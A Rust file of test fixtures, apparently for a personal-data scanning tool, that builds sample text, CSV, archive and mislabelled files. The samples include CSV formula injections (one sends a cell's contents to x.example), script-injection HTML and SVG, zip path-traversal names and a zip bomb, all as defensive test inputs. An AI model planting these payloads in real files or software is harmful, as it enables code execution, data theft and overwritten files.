//! Text, tables, archives, and files that are not what their name says.

use super::super::Family;
use super::super::make::*;

pub fn text() -> Family {
    let mut f = Family::new("Text", "txt");
    f.add("a health number", format!("NHS {NHS}"));
    f.add("UTF-16 with a mark", wide(&format!("NHS {NHS}"), true, false));
    f.add("UTF-16, big end first, without a mark", wide(&format!("NHS {NHS} and more words"), false, true));
    f.add("UTF-16 without a mark", wide(&format!("NHS {NHS} and more words"), false, false));
    f.add("Windows-1252", [b"Zo\xeb NHS ".as_slice(), NHS.as_bytes()].concat());
    f.add("an encoding that cannot be told", encoding_rs::WINDOWS_1251.encode("Секретные слова о ребёнке").0);
    f.add("bytes that are no text", b"abc\0\x01\x02\xfe\xff");
    f.add("a page under another name", "<!DOCTYPE html><script>alert(1)</script>");
    f.add("a path with a worker's name", "Saved as C:\\Users\\jo.bloggs\\case.docx");
    f.named("a card of a person", "vcf", "BEGIN:VCARD\nVERSION:3.0\nFN:Jo Bloggs\nEND:VCARD\n");
    f.named(
        "whoever was invited",
        "ics",
        "BEGIN:VEVENT\nATTENDEE;ROLE=CHAIR;C\n N=\"Jo Bloggs\":mailto:x\nEND:VEVENT\n",
    );
    f.named("a health number in subtitles", "vtt", format!("WEBVTT\n\n00:00.000 --> 00:02.000\nNHS {NHS}\n"));
    f.named("a health number in data", "json", format!("{{\"nhs\": \"{NHS}\"}}"));
    f.named("a health number in a calendar", "ics", format!("BEGIN:VCALENDAR\nSUMMARY:NHS {NHS}\nEND:VCALENDAR\n"));
    f
}

pub fn tables() -> Family {
    let mut f = Family::new("CSV", "csv");
    f.add("a health number after a comma", format!("name,nhs\nA,{NHS}\n"));
    f.add("a health number beside a number", format!("1;{NHS};2\n"));
    f.add("dates of birth under their heading", "name,date of birth\nA,03/04/2015\n");
    f.add("the same, quoted", "\"name\",\"Date of birth\"\n\"B, A\",\"03/04/2015\"\n");
    f.add("the same below a title", "Register,\nname,DOB\nA,03/04/2015\n");
    f.add("the same with a gap in the column", "name,DOB\nA,n/a\nB,03/04/2015\n");
    f.add("“Unicode text” of Excel", wide("name\tDOB\nA\t03/04/2015\n", true, false));
    f.add("a formula that starts a program", "name\n=cmd|'/c calc'!A0\n");
    f.add("a formula that sends the cell beside it", "name\n\"=HYPERLINK(\"\"http://x.example/\"\"&A1)\"\n");
    f.add("a formula behind a sign", "name\n@SUM(1+1)*cmd|' /C calc'!A0\n");
    f.named("a health number between tabs", "tsv", format!("a\tb\n1\t{NHS}\n"));
    f
}

pub fn archives() -> Family {
    let mut f = Family::new("Archives", "zip");
    f.add("a mail", zip(&[("mail.eml", "From: jo")]));
    f.add("a program", zip(&[("run.exe", "MZ")]));
    f.add("a script", zip(&[("run.js", "alert(1)")]));
    f.add("a name", zip(&[("Child A NHS 9434765919.txt", "a")]));
    f.add("a folder's name", zip(&[("NHS 9434765919/a.txt", "a")]));
    f.add("a health number", zip(&[("a.csv", "name,nhs\nA,9434765919\n")]));
    f.add(
        "comments",
        zip_bytes(&[("a.docx", &docx("", &[("word/comments.xml", &word_part("comments", "<w:comment/>"))]))]),
    );
    f.add("an archive in an archive", zip_bytes(&[("b.zip", &zip(&[("a.txt", "NHS 9434765919")]))]));
    f.add("a page that runs", zip(&[("a.html", "<p onclick=\"alert(1)\">a</p>")]));
    f.add("a page with a script", zip(&[("a.html", "<script>alert(1)</script>")]));
    f.add("a page with a link that runs", zip(&[("a.htm", "<a href=\"javascript:alert(1)\">a</a>")]));
    f.add("a picture that runs", zip(&[("a.svg", &svg(" onload=\"alert(1)\"", ""))]));
    f.add("an old document", zip_bytes(&[("a.doc", &[0xd0, 0xcf, 0x11, 0xe0])]));
    f.add("another archive", zip(&[("a.7z", "7z")]));
    f.add("a name that leads out", zip(&[("../a.txt", "a")]));
    f.add("a name from the root", zip(&[("/etc/a.txt", "a")]));
    f.add("two of one name", {
        let mut b = zip(&[("aa.txt", "a"), ("ab.txt", "b")]);
        replace(&mut b, b"ab.txt", b"aa.txt");
        b
    });
    f.add("a prefix", [b"secret words before it ".to_vec(), zip(&[("a.txt", "a")])].concat());
    f.add("data behind its end", [zip(&[("a.txt", "a")]), b"secret".to_vec()].concat());
    f.add("a remark", {
        let mut b = zip(&[("a.txt", "a")]);
        let end = b.len();
        b[end - 2] = 5;
        b.extend(b"hello");
        b
    });
    f.add("an entry that its list leaves out", {
        let whole = zip(&[("aa.txt", "secret"), ("ab.txt", "b")]);
        let list = whole.windows(4).position(|w| w == b"PK\x01\x02").expect("a list");
        let second = whole[list + 4..].windows(4).position(|w| w == b"PK\x01\x02").expect("two") + 4;
        let mut b = whole;
        b.drain(list..list + second);
        let end = b.windows(4).position(|w| w == b"PK\x05\x06").expect("an end");
        b[end + 8] = 1;
        b[end + 10] = 1;
        b[end + 12] -= second as u8;
        b
    });
    f.add("a card of a person", zip(&[("a.vcf", "BEGIN:VCARD\r\nFN:Jo Bloggs\r\nEND:VCARD\r\n")]));
    f.add("a bomb", zip_bytes(&[("a.txt", &vec![b'a'; 40 << 20])]));
    f.add("a lock", {
        let mut b = zip(&[("a.txt", "a")]);
        let at = b.windows(4).position(|w| w == b"PK\x01\x02").expect("a list");
        b[at + 8] |= 1;
        b[6] |= 1;
        b
    });
    f
}

fn replace(bytes: &mut [u8], from: &[u8], to: &[u8]) {
    while let Some(at) = bytes.windows(from.len()).position(|w| w == from) {
        bytes[at..at + from.len()].copy_from_slice(to);
    }
}

pub fn disguises() -> Family {
    let mut f = Family::new("Disguises", "jpg");
    f.add("an archive named as a picture", zip(&[("a.txt", "a")]));
    f.add("a page named as a picture", "<html><script>alert(1)</script></html>");
    f.named("a picture named as another", "png", jpeg(&[]));
    f.named("a program named as text", "txt", b"MZ\x90\0\x03\0");
    f.named("a picture named as a table", "csv", png(&[]));
    f.named("a document named as a PDF", "pdf", docx("", &[]));
    f.named("a PDF named as a document", "docx", Pdf::default().make());
    f.named("a page named as data", "json", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
    f.named("an archive named as a film", "mp4", zip(&[("a.txt", "a")]));
    f.named("a font", "woff2", "wOF2secret");
    f.named("a type nobody knows", "exe", "MZ");
    f.named("a script beside pages", "js", "alert(1)");
    f.named("a page beside pages", "htm", "<p>a</p>");
    f
}
